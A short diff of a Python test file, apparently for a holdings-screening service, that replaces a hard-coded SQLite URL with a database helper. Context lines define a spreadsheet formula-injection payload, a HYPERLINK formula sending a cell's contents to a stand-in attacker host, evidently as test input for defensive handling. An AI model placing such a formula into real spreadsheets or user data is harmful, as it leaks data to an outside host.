@@ -13,6 +13,7 @@ from service.config import Settings
 from service.domain.moments import Moment
 from service.screening.intake import HoldingsFile
 from service.screening.screener import ScreeningRequest
+from tests.databases import database_in
 
 NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
 HARM = '=HYPERLINK("http://evil.example/?"&A1) HIKVISION'
@@ -35,7 +36,7 @@ Sheets = dict[str, list[list[Any]]]
 @pytest.fixture(scope="session")
 def services(tmp_path_factory: pytest.TempPathFactory) -> Services:
     home = tmp_path_factory.mktemp("reports")
-    return start(Settings(home=home, database_url=f"sqlite:///{home / 'p.sqlite3'}"), now=lambda: NOW)
+    return start(Settings(home=home, database_url=database_in(home)), now=lambda: NOW)
 
 
 @pytest.fixture(scope="session")
